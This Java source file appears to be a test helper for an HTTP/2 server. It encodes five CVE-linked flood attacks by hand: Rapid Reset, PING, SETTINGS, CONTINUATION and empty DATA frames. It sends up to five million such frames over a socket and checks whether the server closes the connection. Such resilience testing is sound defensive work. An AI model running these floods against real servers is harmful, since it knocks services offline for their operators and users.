package dev.tandem.runtime.serve;

import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Frames that cost a server more than their sender (RFC 9113, section 10.5), written byte by byte: no client would send them. */
enum Http2Flood {

    /** Requests that are taken back at once (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void write(ByteBuffer frames, int count) {
            int stream = 2 * count + 1;
            frame(frames, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
            frame(frames, RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
        }
    },
    /** Questions whose answers nobody reads (CVE-2019-9512). */
    PING {
        @Override
        void write(ByteBuffer frames, int count) {
            frame(frames, PING_FRAME, 0, 0, new byte[8]);
        }
    },
    /** The same with settings (CVE-2019-9515). */
    SETTINGS {
        @Override
        void write(ByteBuffer frames, int count) {
            frame(frames, SETTINGS_FRAME, 0, 0, new byte[0]);
        }
    },
    /** Headers that never end (CVE-2024-27316 and its like). */
    CONTINUATION {
        @Override
        void write(ByteBuffer frames, int count) {
            boolean first = count == 0;
            frame(
                    frames,
                    first ? HEADERS : CONTINUATION_FRAME,
                    0,
                    1,
                    first ? REQUEST : new byte[0]);
        }
    },
    /** Data that is none (CVE-2019-9518). */
    EMPTY_DATA {
        @Override
        void write(ByteBuffer frames, int count) {
            boolean first = count == 0;
            frame(
                    frames,
                    first ? HEADERS : DATA,
                    first ? END_HEADERS : 0,
                    1,
                    first ? REQUEST : new byte[0]);
        }
    };

    private static final byte DATA = 0;
    private static final byte HEADERS = 1;
    private static final byte RST_STREAM = 3;
    private static final byte SETTINGS_FRAME = 4;
    private static final byte PING_FRAME = 6;
    private static final byte CONTINUATION_FRAME = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** GET / of http://x, by HPACK's static table. */
    private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};

    private static final int FRAMES_AT_ONCE = 1_000;
    private static final int MOST_FRAMES = 5_000_000;

    abstract void write(ByteBuffer frames, int count);

    private static void frame(ByteBuffer out, byte type, int flags, int stream, byte[] payload) {
        out.put((byte) 0).putShort((short) payload.length).put(type).put((byte) flags);
        out.putInt(stream).put(payload);
    }

    /** Floods a connection without reading anything; whether the server closed it. */
    boolean untilClosed(Socket socket) throws IOException {
        var out = socket.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        var frames = ByteBuffer.allocate(64 * FRAMES_AT_ONCE);
        frame(frames, SETTINGS_FRAME, 0, 0, new byte[0]);
        try {
            for (int count = 0; count < MOST_FRAMES; ) {
                for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                    write(frames, count++);
                }
                out.write(frames.array(), 0, frames.position());
                frames.clear();
            }
            return false;
        } catch (IOException closed) {
            return true;
        }
    }
}
